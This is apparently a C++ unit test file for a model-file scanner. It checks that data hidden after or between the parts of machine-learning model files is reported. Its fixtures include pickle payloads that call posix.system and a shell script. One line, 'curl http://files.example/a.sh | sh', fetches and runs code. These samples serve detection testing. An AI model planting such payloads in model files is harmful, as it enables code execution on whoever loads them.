// SPDX-License-Identifier: GPL-3.0-or-later
// Every byte accounted for: what is put behind or between the parts of real files is told, never counted as structure.
#include "analyzers/engine/companions.h"
#include "analyzers/formats/pickle/pickle_facts.h"
#include "tests/unit/check.h"
#include "tests/unit/model_bytes.h"

#include <algorithm>
#include <filesystem>
#include <set>

using namespace cupel;
namespace fs = std::filesystem;

namespace {

const std::string frameworks = CUPEL_SOURCE_DIR "/tests/data/frameworks/";

// 64 bytes that begin like nothing.
std::string strange()
{
    std::string out;
    std::uint32_t state = 0x12345678;
    while (out.size() < 64) {
        state = state * 1'664'525 + 1'013'904'223;
        out += static_cast<char>(state >> 24);
    }
    return out;
}

// With what is found in its members.
Analysis analysis(std::string bytes, const std::string& path)
{
    Artifact artifact;
    artifact.path = path;
    artifact.bytes = std::make_shared<const std::string>(std::move(bytes));
    Budget budget;
    artifact.companions = engine::companionsOf(path, artifact.view(), budget);
    ScanOptions options;
    options.keepBytes = true;
    std::vector<Artifact> members;
    auto out = engine::analyze(std::move(artifact), options, budget, &members);
    for (auto& member : members) {
        auto inside = engine::analyze(std::move(member), options, budget);
        out.findings.insert(out.findings.end(), inside.findings.begin(), inside.findings.end());
    }
    return out;
}

// Without what is said of bytes that only look like a name of the file.
std::set<std::string> rules(const Analysis& one)
{
    std::set<std::string> out;
    for (const auto& finding : one.findings) {
        out.insert(finding.rule);
    }
    return out;
}

bool isLeftover(const Analysis& one, std::uint64_t at)
{
    const auto& model = one.facts.model;
    return model && std::any_of(model->leftover.begin(), model->leftover.end(), [at](const ByteRange& range) {
        return range.contains(at);
    });
}

// The last bytes are something else than structure: not read, of a program (also one that is a member of its own), or
// known to belong to nothing.
bool isExplained(const Analysis& one)
{
    const auto last = one.size - 1;
    if (one.facts.coverage.understood <= last || isLeftover(one, last)) {
        return true;
    }
    const bool objects = one.facts.model
        && std::any_of(one.facts.model->tensors.begin(), one.facts.model->tensors.end(),
            [last](const ModelTensor& tensor) { return tensor.dtype == "object" && tensor.bytes.contains(last); });
    if (objects) {
        return true;
    }
    const auto* pickle = formats::pickleFacts(one.facts);
    return pickle && std::any_of(pickle->streams.begin(), pickle->streams.end(), [last](const auto& stream) {
        return stream.bytes.contains(last);
    });
}

bool isText(const Analysis& one)
{
    return one.facts.format == "text" || one.facts.format == "jinja";
}

} // namespace

CUPEL_TEST(what_is_appended_to_a_real_file_is_told)
{
    std::size_t files = 0;
    for (const auto& entry : fs::recursive_directory_iterator(frameworks)) {
        const auto path = entry.path().string();
        if (!entry.is_regular_file() || entry.path().extension() == ".tsv" || entry.path().extension() == ".md") {
            continue;
        }
        const auto bytes = test::readFile(path).value_or("");
        const auto before = analysis(bytes, path);
        const auto after = analysis(bytes + strange(), path);
        if (isText(before)) {
            continue; // more text is more text, and is searched as such
        }
        ++files;
        const auto old = rules(before);
        const auto now = rules(after);
        const bool told = !std::includes(old.begin(), old.end(), now.begin(), now.end());
        const bool whole = after.facts.status == ReadStatus::Complete;
        test::report(told || !whole, path.c_str(), 0, "bytes behind it are not told");
        test::report(isExplained(after), path.c_str(), 0, "bytes behind it are counted as structure");
        CHECK(before.facts.model == nullptr || before.facts.model->leftover.empty());
    }
    CHECK(files > 150);
}

// Where a writer fills up with zeros, or has nothing at all.
CUPEL_TEST(what_stands_between_the_parts_is_told)
{
    const std::string llama = frameworks + "gguf-0.19.0/llama.gguf";
    auto bytes = test::readFile(llama).value_or("");
    auto whole = analysis(bytes, llama);
    REQUIRE(whole.facts.model && whole.facts.model->tensors.size() > 1);
    const auto first = whole.facts.model->tensors[0].bytes;
    const auto second = whole.facts.model->tensors[1].bytes;
    CHECK(whole.findings.empty());
    bytes[first.start - 1] = 'x'; // behind the header, if it has filler at all
    auto judged = analysis(bytes, llama);
    CHECK(rules(judged).contains("CUP-GGUF-PADDING"));
    CHECK(isLeftover(judged, first.start - 1));
    if (first.end < second.start) {
        bytes = test::readFile(llama).value_or("");
        bytes[first.end] = 'x';
        CHECK(rules(analysis(bytes, llama)).contains("CUP-GGUF-PADDING"));
    }
}

CUPEL_TEST(lines_that_are_no_part_of_a_text_model_are_told)
{
    const std::string path = frameworks + "lightgbm-4.7.0/model.txt";
    const auto text = test::readFile(path).value_or("");
    CHECK(analysis(text, path).findings.empty());
    for (const std::string before : {"\nTree=1\n", "\nend of trees\n", "\nfeature_importances:\n", "\nparameters:\n",
             "\nend of parameters\n", "\nnum_class=1\n"}) {
        const auto at = text.find(before);
        REQUIRE(at != std::string::npos);
        auto changed = text;
        changed.insert(at + 1, "0123456789 payload\nsecond line of it\n");
        const auto judged = analysis(changed, path);
        CHECK(rules(judged) == std::set<std::string>{"CUP-MODEL-HIDDEN"});
        REQUIRE(judged.facts.model->leftover.size() == 1);
        CHECK_EQ(judged.facts.model->leftover[0].start, at + 1);
        CHECK_EQ(judged.facts.model->leftover[0].size(), 37U);
    }
    const auto binary = analysis(text + strange(), path);
    CHECK(isLeftover(binary, binary.size - 1));
    // What the packages write behind the parameters.
    CHECK(analysis(text + "\npandas_categorical:[[\"a\", \"b\"]]\n", path).findings.empty());
}

CUPEL_TEST(texts_of_fixed_length_are_shown_without_their_filler)
{
    const std::string path = frameworks + "tensorflow-2.21.0/doubler.tflite";
    const auto model = analysis(test::readFile(path).value_or(""), path);
    const auto& fields = model.facts.model->metadata;
    const auto version = std::find_if(
        fields.begin(), fields.end(), [](const ModelField& one) { return one.key == "min_runtime_version"; });
    REQUIRE(version != fields.end());
    CHECK(version->value.find('.') != std::string::npos);
    CHECK(version->value.find("bytes") == std::string::npos);
}

// Each place of the file gets 64 bytes that nothing leads to; offsets across it are moved with it where they are known.
CUPEL_TEST(no_table_leads_to_what_stands_in_front_of_the_tables)
{
    const std::string path = frameworks + "tensorflow-2.21.0/doubler.tflite";
    auto bytes = test::readFile(path).value_or("");
    CHECK(analysis(bytes, path).findings.empty());
    // The only absolute offset is the first: all others are relative to what moves with them.
    const auto root = static_cast<unsigned char>(bytes[0]) | static_cast<unsigned char>(bytes[1]) << 8;
    bytes[0] = static_cast<char>((root + 64) & 0xFF);
    bytes[1] = static_cast<char>((root + 64) >> 8);
    bytes.insert(8, strange());
    const auto judged = analysis(bytes, path);
    CHECK(rules(judged).contains("CUP-TFLITE-HIDDEN"));
    CHECK(isLeftover(judged, 8) && isLeftover(judged, 71));
}

CUPEL_TEST(a_field_shows_once)
{
    for (const auto* name : {"model.ubj", "model.json", "model.deprecated"}) {
        const auto path = frameworks + "xgboost-3.0.5/" + name;
        std::set<std::string> keys;
        const auto model = analysis(test::readFile(path).value_or(""), path);
        CHECK(!model.facts.model->metadata.empty());
        for (const auto& field : model.facts.model->metadata) {
            test::report(keys.insert(field.key).second, path.c_str(), 0, field.key + " stands there twice");
        }
    }
}

// Programs skip what their schema does not have; a whole field is no end of the message.
CUPEL_TEST(fields_that_no_schema_has_are_told)
{
    const std::string field100 = "\xa2\x06\x40" + strange();
    for (const std::string name : {"tensorflow-2.21.0/exported/saved_model.pb", "tensorflow-2.21.0/frozen.pb",
             "onnx-1.23.2/network.onnx", "onnx-1.23.2/branches.onnx"}) {
        const auto path = frameworks + name;
        const auto bytes = test::readFile(path).value_or("");
        REQUIRE(!bytes.empty());
        const auto judged = analysis(bytes + field100, path);
        REQUIRE(judged.facts.model != nullptr);
        REQUIRE(judged.facts.model->leftover.size() == 1);
        CHECK(judged.facts.model->leftover[0] == ByteRange({bytes.size(), bytes.size() + field100.size()}));
        CHECK_EQ(judged.findings.size(), 1U);
        CHECK(judged.facts.status == ReadStatus::Complete);
    }
}

CUPEL_TEST(what_a_saved_model_opens_is_named)
{
    const auto path = frameworks + "tensorflow-2.21.0/exported/saved_model.pb";
    const auto model = analysis(test::readFile(path).value_or(""), path);
    const auto& references = model.facts.model->references;
    REQUIRE(references.size() == 1);
    CHECK_EQ(references[0].what, "weights");
    CHECK_EQ(references[0].target, "variables/variables.index");
    // Texts have a place, from the first to the last of them.
    const auto& tensors = model.facts.model->tensors;
    const auto texts =
        std::find_if(tensors.begin(), tensors.end(), [](const ModelTensor& one) { return one.dtype == "string"; });
    REQUIRE(texts != tensors.end());
    CHECK(!texts->bytes.empty());
    CHECK(slice(model.artifact.view(), texts->bytes).find("VARIABLE_VALUE") != ByteView::npos);
}

// The filler of PyTorch's members ends where their data begins; other bytes in it are no filler.
CUPEL_TEST(the_filler_of_members_is_looked_at)
{
    const std::string path = frameworks + "torch-2.9.1/state.pt";
    auto bytes = test::readFile(path).value_or("");
    const auto at = bytes.find("ZZZZZZZZ");
    REQUIRE(at != std::string::npos);
    bytes.replace(at, 8, "\1\2\3\4hide");
    const auto judged = analysis(bytes, path);
    CHECK(rules(judged) == std::set<std::string>{"CUP-ZIP-OUTSIDE"});
    CHECK(isLeftover(judged, at));
}

// What follows the end is told as that, and not once more as words of the metadata.
CUPEL_TEST(leftover_is_no_metadata)
{
    for (const std::string name : {"gguf-0.19.0/llama.gguf", "xgboost-3.0.5/model.ubj"}) {
        const auto path = frameworks + name;
        const auto bytes = test::readFile(path).value_or("");
        const auto judged = rules(analysis(bytes + "curl http://files.example/a.sh | sh  # os.system('id')", path));
        CHECK(!judged.empty());
        CHECK(!judged.contains("CUP-MODEL-CODE-TEXT"));
    }
}

// What no object, tree or heap of an HDF5 file uses is zero; each such room is one where something can hide.
CUPEL_TEST(what_stands_in_room_that_hdf5_does_not_use_is_told)
{
    constexpr std::size_t least = 64;
    const std::string note = "words in room that nothing uses";
    std::size_t rooms = 0;
    for (const std::string name : {"network.h5", "two.h5", "network.weights.h5"}) {
        const auto path = frameworks + "keras-3.15.1/" + name;
        const auto bytes = test::readFile(path).value_or("");
        const auto whole = analysis(bytes, path);
        REQUIRE(whole.facts.model != nullptr);
        CHECK_EQ(whole.facts.coverage.understood, bytes.size());
        const auto isNumbers = [&whole](ByteRange room) {
            const auto& tensors = whole.facts.model->tensors;
            return std::any_of(tensors.begin(), tensors.end(),
                [room](const ModelTensor& tensor) { return tensor.bytes.overlaps(room); });
        };
        for (auto at = bytes.find(std::string(least, '\0')); at != std::string::npos;
            at = bytes.find(std::string(least, '\0'), at)) {
            const auto end = std::min(bytes.find_first_not_of('\0', at), bytes.size());
            if (!isNumbers({at, end})) {
                // The zeros in front may belong to a number.
                const auto place = end - note.size() - 8;
                const auto judged = analysis(std::string(bytes).replace(place, note.size(), note), path);
                test::report(isLeftover(judged, place), path.c_str(), static_cast<int>(place), "it is not told");
                CHECK(judged.facts.coverage.understood < bytes.size());
                ++rooms;
            }
            at = end;
        }
    }
    CHECK(rooms > 60);
    for (const std::string name : {"h5py-oldest.h5", "h5py-newest.h5"}) {
        const std::string path = CUPEL_SOURCE_DIR "/tests/data/formats/hdf5/" + name;
        const auto judged = analysis(test::readFile(path).value_or(""), path);
        CHECK(judged.facts.model && judged.facts.model->tensors.size() > 20);
        CHECK(judged.findings.empty());
        CHECK(judged.facts.status == ReadStatus::Complete);
        CHECK_EQ(judged.facts.coverage.understood, judged.size);
    }
    const std::string path = CUPEL_SOURCE_DIR "/tests/data/formats/hdf5/h5py-deleted.h5";
    const auto judged = analysis(test::readFile(path).value_or(""), path);
    REQUIRE(judged.facts.model && judged.facts.model->leftover.size() == 1);
    CHECK(slice(judged.artifact.view(), judged.facts.model->leftover[0]).starts_with("what stood here was deleted"));
    CHECK(rules(judged) == std::set<std::string>{"CUP-HDF-HIDDEN"});
}

// In whatever format: what is found behind the end is judged as what it is, and what is not understood is not checked.
CUPEL_TEST(a_pickle_behind_the_end_is_judged_in_every_format)
{
    const std::string bytes("\x80\x02"
                            "cposix\nsystem\nX\2\0\0\0id\x85R.",
        26);
    for (const std::string name : {"safetensors-0.8.0/plain.safetensors", "tensorflow-2.21.0/doubler.tflite",
             "numpy-2.4.6/arrays.npz", "torch-2.9.1/views.pt", "numpy-2.4.6/floats.npy", "gguf-0.19.0/llama.gguf",
             "keras-3.15.1/network.h5", "keras-3.15.1/network.keras"}) {
        const auto path = frameworks + name;
        const auto file = test::readFile(path).value_or("");
        test::report(!file.empty(), path.c_str(), 0, "it is not there");
        const auto judged = analysis(file + bytes, path);
        const auto found = rules(judged);
        test::report(found.contains("CUP-PKL-PROCESS"), path.c_str(), 0, "the pickle behind it is not judged");
        test::report(found.contains("CUP-MODEL-CARRIED-PICKLE"), path.c_str(), 0, "it is not told");
        test::report(!found.contains("CUP-ZIP-INCONSISTENT"), path.c_str(), 0, "its directory is right");
        test::report(judged.facts.status == ReadStatus::Complete, path.c_str(), 0, "all of it was judged");
        const auto unknown = analysis(file + strange(), path);
        test::report(unknown.facts.status == ReadStatus::Partial, path.c_str(), 0, "what is behind it was not checked");
        const auto script = rules(analysis(file + "#!/bin/sh\nid\n", path));
        test::report(script.contains("CUP-MODEL-CARRIED-PROGRAM"), path.c_str(), 0, "the script is not told");
    }
}

// Messages have no end: what stands behind one looks like fields until it breaks off.
CUPEL_TEST(a_pickle_behind_a_message_is_judged_whole)
{
    using namespace std::string_literals;
    const std::string data = CUPEL_SOURCE_DIR "/tests/data/formats/";
    for (const auto& path : {frameworks + "onnx-1.23.2/network.onnx", data + "tensorflow/saved_model.pb",
             data + "tensorflow/frozen.pb", data + "paddle/plain.pdmodel", data + "coreml/plain.mlmodel"}) {
        const auto file = test::readFile(path).value_or("");
        test::report(!file.empty(), path.c_str(), 0, "it is not there");
        for (const auto& bytes : {"\x80\4\x8c\5posix\x8c\6system\x93\x8c\7echo hi\x85R."s,
                 "cos\nsystem\n(S'echo hi'\ntR."s, "\x80\2cposix\nsystem\nX\2\0\0\0id\x85R."s}) {
            const auto judged = analysis(file + bytes, path);
            const auto found = rules(judged);
            test::report(found.contains("CUP-PKL-PROCESS"), path.c_str(), 0, "the pickle behind it is not judged");
            test::report(found.contains("CUP-MODEL-CARRIED-PICKLE"), path.c_str(), 0, "it is not told");
            const auto& leftover = judged.facts.model->leftover;
            const bool whole = std::any_of(leftover.begin(), leftover.end(),
                [&](ByteRange one) { return one.start == file.size() && one.end == judged.size; });
            test::report(whole, path.c_str(), 0, "not all that is behind it belongs to nothing");
        }
        // A message that should go on is cut off, nothing more.
        const auto cut = analysis(file.substr(0, file.size() - 3), path);
        test::report(
            cut.facts.model && cut.facts.model->leftover.empty(), path.c_str(), 0, "what is cut off is left over");
    }
}

// joblib.load reads one pickle; another one behind it is hidden from it, and no load of this file runs it.
CUPEL_TEST(another_pickle_behind_one_of_joblib_is_told)
{
    const std::string bytes("\x80\x02"
                            "cposix\nsystem\nX\2\0\0\0id\x85R.",
        26);
    const auto path = frameworks + "scikit-learn-1.9.1/isotonic.joblib";
    const auto file = test::readFile(path).value_or("");
    REQUIRE(!file.empty());
    const auto judged = analysis(file + bytes, path);
    CHECK(rules(judged) == std::set<std::string>({"CUP-PKL-PROCESS", "CUP-PKL-TRAILING"}));
    for (const auto& finding : judged.findings) {
        CHECK_EQ(finding.location.bytes.start >= file.size(), true);
        CHECK(finding.rule != "CUP-PKL-PROCESS" || finding.message.starts_with("A further load"));
    }
}

// Nothing can hide in zeros or in blanks: whatever the format, they are worth a word and no reason to call the file
// unchecked. What stands behind them is found as anywhere.
CUPEL_TEST(zeros_and_blanks_behind_the_end_are_no_trouble)
{
    const std::string pickle("\x80\x02"
                             "cposix\nsystem\nX\2\0\0\0id\x85R.",
        26);
    std::size_t told = 0;
    for (const auto& entry : fs::recursive_directory_iterator(frameworks)) {
        const auto path = entry.path().string();
        const auto bytes = entry.is_regular_file() ? test::readFile(path).value_or("") : std::string();
        const auto before = analysis(bytes, path);
        const auto* ownPickle = formats::pickleFacts(before.facts);
        // A message of Protocol Buffers and JSON end where the file ends: what is put behind them damages them.
        const auto ending = entry.path().extension();
        const bool open =
            ending == ".pb" || ending == ".onnx" || ending == ".json" || before.facts.format == "text"; // JSON of Orbax
        if ((!before.facts.model && !ownPickle) || before.facts.status != ReadStatus::Complete || open) {
            continue;
        }
        for (const auto& padding :
            {std::string(1, '\0'), std::string(5'000, '\0'), std::string("\n"), std::string(300, ' ') + "\t\r\n"}) {
            const auto where = path + " and " + std::to_string(padding.size()) + " bytes";
            const auto after = analysis(bytes + padding, path);
            // A chunk of Zarr has one size, or its index at its end: readers refuse it with more.
            if (before.facts.format == "zarr") {
                test::report(after.facts.status == ReadStatus::Partial, where.c_str(), 0, "it counts as checked");
                continue;
            }
            test::report(after.facts.status == ReadStatus::Complete, where.c_str(), 0, "it counts as not checked");
            test::report(after.facts.coverage.understood >= before.facts.coverage.understood, where.c_str(), 0,
                "less was covered");
            for (const auto& finding : after.findings) {
                const bool known = std::any_of(before.findings.begin(), before.findings.end(),
                    [&finding](const Finding& one) { return one.rule == finding.rule; });
                test::report(known || finding.severity <= Severity::Low, where.c_str(), 0, finding.message);
                told += known ? 0 : 1;
            }
        }
        const auto hidden = rules(analysis(bytes + std::string(5'000, '\0') + pickle, path));
        test::report(hidden.contains("CUP-PKL-PROCESS"), path.c_str(), 0, "the pickle behind zeros is not judged");
    }
    CHECK(told > 100);
}

// The number agrees, and where zeros and blanks stand in turn something is written.
CUPEL_TEST(zeros_and_blanks_are_told_by_their_number)
{
    const auto message = [](const std::string& name, const std::string& behind) {
        const auto path = frameworks + name;
        const auto judged = analysis(test::readFile(path).value_or("") + behind, path);
        std::string out = judged.facts.status == ReadStatus::Complete ? "" : "not checked: ";
        for (const auto& finding : judged.findings) {
            out += std::string(toString(finding.severity)) + ": " + finding.message;
        }
        return out;
    };
    const std::string npy = "numpy-2.4.6/floats.npy";
    CHECK_EQ(message(npy, std::string(1, '\0')), "low: 1 zero follows the array and belongs to none.");
    CHECK_EQ(message(npy, std::string(70, '\0')), "low: 70 zeros follow the array and belong to none.");
    CHECK_EQ(message(npy, "\n"), "low: 1 blank follows the array and belongs to none.");
    CHECK_EQ(message(npy, " \t\r\n"), "low: 4 blanks follow the array and belong to none.");
    CHECK_EQ(message(npy, std::string("\0\n", 2)), "not checked: medium: 2 bytes follow the array and belong to none.");
    CHECK_EQ(
        message("keras-3.15.1/network.h5", std::string(4'097, '\0')), "low: 4097 zeros follow the end of the file.");
    const std::string pickle = "scikit-learn-1.9.1/isotonic.joblib";
    CHECK_EQ(message(pickle, "\n"), "low: 1 blank follows the end of a stream and belongs to none.");
    CHECK_EQ(message(pickle, std::string(2, '\0')), "low: 2 zeros follow the end of a stream and belong to none.");
    CHECK_EQ(message(pickle, "J"), "not checked: medium: 1 byte follows the end of a stream and belongs to none.");
}
